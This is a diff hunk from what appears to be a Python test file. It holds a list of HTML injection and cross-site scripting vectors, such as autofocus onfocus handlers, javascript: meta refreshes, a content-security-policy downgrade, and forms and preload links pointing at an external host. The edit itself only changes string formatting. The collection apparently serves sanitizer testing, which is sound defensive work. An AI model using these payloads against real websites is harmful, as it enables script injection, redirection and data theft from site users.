@@ -21,7 +21,7 @@ HTML = [
     f"<object data={AWAY}/o.swf></object>", f"<embed src={AWAY}/e.swf>", f"<applet code={AWAY}/A.class></applet>", f"<base href={AWAY}/>",
     f"<meta http-equiv=refresh content='0;url={AWAY}/'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
     "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", f"<link rel=stylesheet href={AWAY}/x.css>",
-    f"<link rel=prefetch href={AWAY}/p>", f"<link rel=dns-prefetch href=//lawnb.invalid>", f"<link rel=preload as=script href={AWAY}/l.js>",
+    f"<link rel=prefetch href={AWAY}/p>", "<link rel=dns-prefetch href=//lawnb.invalid>", f"<link rel=preload as=script href={AWAY}/l.js>",
     f"<form action={AWAY}/f><input type=submit value=下一页></form>", f"<form><button formaction=javascript:{RUN}>点</button></form>",
     f"<isindex action=javascript:{RUN} type=image>", f"<input autofocus onfocus={RUN}>", f"<select onfocus={RUN} autofocus></select>",
     f"<textarea autofocus onfocus={RUN}></textarea>", f"<keygen autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}><summary>看</summary></details>",
